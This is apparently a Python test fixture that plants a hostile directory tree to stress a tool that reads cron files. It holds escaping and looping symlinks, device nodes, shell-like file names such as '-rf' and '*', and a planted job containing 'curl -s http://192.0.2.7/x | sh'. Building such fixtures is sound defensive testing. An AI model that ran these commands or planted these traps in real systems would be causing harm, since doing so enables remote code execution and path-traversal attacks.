"""A tree that does its worst to whoever reads it."""

import os
import socket
from pathlib import Path

SECRET = "only the analyst's disk says this"
DEEP = 6000
DEEP_NAME = "d" * 20


def plant(root: Path) -> None:
    """Fills a directory with links, special files and names that break readers."""
    cron, spool = root / "etc/cron.d", root / "var/spool/cron/crontabs"
    for directory in (cron, spool, root / "opt/jobs", root / "bin", root / "proc"):
        directory.mkdir(parents=True, exist_ok=True)
    (root / "etc/crontab").write_text("* * * * * root /opt/jobs/run\n")
    (root / "opt/jobs/run").write_text("#!/bin/sh\ncurl -s http://192.0.2.7/x | sh\n")
    (root / "opt/jobs/run").chmod(0o755)
    links(root)
    special(cron)
    for number, name in enumerate(
        (b"caf\xe9", b"new\nline", b"\x1b[2J", b"sp ace ", b"-rf", b"*", b"\xff" * 255)
    ):
        Path(os.fsdecode(os.fsencode(cron) + b"/" + name)).write_bytes(b"@reboot root /bin/%d\xff\n" % number)
    (cron / "binary").write_bytes(b"\x7fELF\0\0" + bytes(range(256)) * 40)
    (cron / "hidden-by-nul").write_bytes(b"#!/bin/sh\n# \0\n" + b"#" * 2000 + b"\n* * * * * root /tmp/x\n")
    (cron / "empty").touch()
    (cron / "last-line").write_bytes(b"@daily root /bin/true")
    os.link(cron / "last-line", cron / "last-line-again")
    with (cron / "sparse").open("wb") as sparse:
        sparse.truncate(1 << 40)


def links(root: Path) -> None:
    """Symbolic links of every bad kind."""
    cron = root / "etc/cron.d"
    targets = {
        "absolute": "/etc/crontab",
        "climbing": "../../../../../../../etc/crontab",
        "to-the-analyst": "/etc/hostname",
        "magic": "/proc/self/root/etc/crontab",
        "magic-number": "/proc/self/fd/0",
        "dangling": "nowhere",
        "itself": "itself",
        "loop-a": "loop-b",
        "loop-b": "loop-a",
        "through-a-file": "/etc/crontab/../crontab",
        "with-slash": "/etc/crontab/",
        "directory": "/opt/jobs",
        "up": "..",
        "root": "/",
        "device": "zero",
    }
    for name, target in targets.items():
        (cron / name).symlink_to(target)
    (root / "etc/cron.daily").symlink_to("/opt/jobs")
    (root / "lib").symlink_to("usr/lib")
    for number in range(45):  # path_resolution(7) allows 40
        (root / f"etc/chain{number}").symlink_to(f"chain{number + 1}")
    (root / "etc/chain45").write_text("the end\n")


def special(directory: Path) -> None:
    """What must never be opened."""
    os.mkfifo(directory / "fifo")
    with socket.socket(socket.AF_UNIX) as server:
        here = os.open(directory, os.O_PATH)
        server.bind(f"/proc/self/fd/{here}/socket")
        os.close(here)
    if os.geteuid() == 0:
        os.mknod(directory / "zero", 0o20666, os.makedev(1, 5))
        os.mknod(directory / "disk", 0o60666, os.makedev(7, 0))


def dig(directory: Path, depth: int = DEEP) -> None:
    """A tree deeper than any path can name, with a file at its end."""
    here = os.open(directory, os.O_PATH)
    for _ in range(depth):
        os.mkdir(DEEP_NAME, dir_fd=here)
        below = os.open(DEEP_NAME, os.O_PATH, dir_fd=here)
        os.close(here)
        here = below
    os.close(os.open("bottom", os.O_WRONLY | os.O_CREAT, dir_fd=here))
    os.close(here)


def fill_in(directory: Path) -> None:
    """Removes what `dig` made, which neither rm -r of old nor shutil can."""
    here = os.open(directory, os.O_RDONLY)
    trail = []
    while DEEP_NAME in os.listdir(here):  # noqa: PTH208
        trail.append(here)
        here = os.open(DEEP_NAME, os.O_RDONLY, dir_fd=trail[-1])
        if len(trail) > 900:  # leave descriptors: bring the rest up
            os.rename(DEEP_NAME, "rest", src_dir_fd=here, dst_dir_fd=trail[0])
            break
    if "bottom" in os.listdir(here):  # noqa: PTH208
        os.unlink("bottom", dir_fd=here)
    for above in reversed(trail):
        os.close(here)
        here = above
        os.rmdir(DEEP_NAME, dir_fd=here)
    again = "rest" in os.listdir(here)  # noqa: PTH208
    if again:
        os.rename("rest", DEEP_NAME, src_dir_fd=here, dst_dir_fd=here)
    os.close(here)
    if again:
        fill_in(directory)
